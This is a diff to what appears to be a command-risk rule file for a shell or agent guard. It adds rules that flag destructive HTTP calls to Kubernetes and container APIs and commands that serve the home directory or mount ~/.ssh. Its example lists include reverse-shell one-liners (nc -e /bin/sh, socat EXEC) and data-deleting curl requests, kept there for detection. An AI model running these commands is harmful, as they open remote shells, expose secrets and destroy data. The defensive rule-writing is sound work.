@@ -12,6 +12,7 @@ QUESTIONS = *search*|*query*|*/completions*|*/messages*|*/embeddings*|*/oauth/to
 http-delete: drop-data · external · family http delete · about operands
   {HTTP} · http method DELETE · http host public,private,drop-box,data-service
   {HTTP} · http method POST,PUT,PATCH · http host public,private,drop-box,data-service · http path {GONE_PATHS}
+  {HTTP} · http method DELETE,PUT,PATCH · http path /api/v1/namespaces*|/api/v1/nodes*|/api/v1/persistentvolumes*|/apis/*|/v1/kv/*|/containers/*|/volumes/*
   {HTTP} · http method POST · http host public,private · http path */graphql* · http body *mutation*
   + curl -X DELETE https://api.acme.io/v1/users/1 ¦ curl -XDELETE http://localhost:9200/logs
   + http DELETE https://api.acme.io/u/1 ¦ curl -X POST http://jenkins.local/job/x/doDelete
@@ -64,6 +65,12 @@ shell-over-network: execute-remote · external · family network shell
   zmodload · words zsh/net/tcp
   + nc -e /bin/sh a.b 4444 ¦ ncat --exec /bin/bash a.b 1 ¦ socat TCP:a.b:1 EXEC:/bin/sh
   - nc -z localhost 22 ¦ nc localhost 11211
+
+serve: send · external · family shared folder · about operands
+  <serves> · operands is root,home,system,outside-project,home-config,secret
+  <mount-read> · operands is secret
+  + cd ~ && python3 -m http.server ¦ npx serve ~/Documents ¦ php -S 0.0.0.0:80 -t ~ ¦ docker run -v ~/.ssh:/k:ro x
+  - python3 -m http.server -d dist ¦ npx serve dist ¦ php -S localhost:8000 ¦ docker run -v "$PWD":/w x
 
 share-terminal: weaken · external · family shared terminal
   tmate|upterm|ttyd|gotty|sshx · lacks --help|--version
